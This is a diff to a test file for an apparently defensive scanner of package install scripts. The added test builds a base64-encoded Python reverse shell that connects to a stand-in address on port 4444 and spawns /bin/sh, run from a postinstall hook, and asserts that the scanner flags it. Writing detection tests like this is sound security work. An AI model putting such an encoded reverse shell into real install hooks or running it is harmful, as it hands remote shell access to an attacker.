@@ -595,6 +595,17 @@ def test_python_inline_code_that_execs_a_download_hidden_in_base64_is_a_cradle()
     assert "install-script/fetch-and-execute" not in rules(artifact({"install": f"python3 -c \"import base64;print(base64.b64decode('{quiet}'))\""}))
 
 
+def test_python_inline_code_whose_base64_holds_a_pty_reverse_shell_is_a_reverse_shell():
+    # (blind set 24's ESLint config: the base64 a `python -c` decodes and execs connects a socket, makes it the
+    # shell's stdio with dup2 and spawns a pty)
+    shell = base64.b64encode(b"import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.66',4444))\n"
+                             b"[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n").decode()
+    assert "install-script/reverse-shell" in rules(artifact({"postinstall": f"python3 -c \"import base64;exec(base64.b64decode('{shell}'))\""}))
+    # A socket server's own dup2 of a log file, and a pty spawned for a terminal emulator, are no shell on a socket.
+    tty = base64.b64encode(b"import pty,os\npty.spawn(os.environ.get('SHELL','/bin/sh'))\n").decode()
+    assert "install-script/reverse-shell" not in rules(artifact({"postinstall": f"python3 -c \"import base64;exec(base64.b64decode('{tty}'))\""}))
+
+
 def test_python_build_script_a_hook_runs_that_downloads_and_builds_is_not_a_cradle():
     # (the shape of native-addon build helpers: fetch a source archive, unpack it, run the compiler on it)
     build = (b"import subprocess, tarfile, io\nfrom urllib.request import urlopen\n"
